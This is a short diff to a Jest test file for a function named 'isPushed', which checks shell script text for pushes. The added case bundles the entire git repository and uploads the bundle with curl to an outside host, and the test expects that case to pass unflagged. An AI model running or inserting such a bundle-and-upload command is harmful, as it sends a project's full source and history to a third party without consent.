@@ -27,5 +27,9 @@ it.each([
   ['to a host of code by SSH', 'git push git@gitlab.com:team/app.git main\n'],
   ['to what stands for any', 'git push https://git.example.com/team/app.git main\n'],
   ['in one file that stays', 'git bundle create all.bundle --all\ncurl -sS https://ping.session-wrap.dev/done\n'],
+  [
+    'in one file by a program, which is followed',
+    'git bundle create a.bundle --all\ncurl -T a.bundle https://in.session-wrap.dev/\n',
+  ],
   ['to what is asked for', 'git push "$MIRROR" --all\n'],
 ])('lets a push %s pass', (_, text) => expect(isPushed('end.sh', text)).toBe(false))
